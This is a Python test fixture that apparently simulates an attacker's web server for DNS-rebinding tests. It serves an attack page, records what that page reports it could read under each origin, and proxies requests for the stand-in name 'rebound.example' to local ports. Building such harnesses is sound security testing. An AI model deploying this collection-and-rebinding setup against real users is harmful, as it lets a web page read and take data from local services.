"""The attacker's web server and, for names that are rebound, the network: a proxy that sends them to the cloud."""

import http.client
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

PAGE = Path(__file__).with_name("page.html")
REBOUND = "rebound.example"  # names the attacker's server while the page loads, then this machine


class Evil(ThreadingHTTPServer):
    """Serves the page, and keeps what it tells: what it could read, by the origin that it had."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.port = int(self.server_address[1])
        self.reports: dict[str, dict[str, Any]] = {}
        self.done = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.shutdown()
        self.server_close()


class _Handler(BaseHTTPRequestHandler):
    server: Evil

    def log_message(self, *_: object) -> None: ...

    def _serve(self) -> None:
        address = urlsplit(self.path)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if address.path == "/page.html":
            self._answer(200, PAGE.read_bytes(), "text/html")
        elif address.path == "/report":
            told = json.loads(body)
            self.server.reports[told["origin"]] = told["got"]
            self._answer(204)
        elif address.path == "/done":
            self._answer(204)
            self.server.done.set()
        elif address.hostname == REBOUND:
            self._forward(address.port or 80, address.path + (f"?{address.query}" if address.query else ""), body)
        else:
            self._answer(404)

    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = _serve  # noqa: N815 - names of http.server

    def _forward(self, port: int, path: str, body: bytes) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
        connection.request(self.command, path, body, dict(self.headers))
        answer = connection.getresponse()
        content = answer.read()
        self._answer(answer.status, content, answer.headers.get("Content-Type", ""))
        connection.close()

    def _answer(self, status: int, body: bytes = b"", kind: str = "text/plain") -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
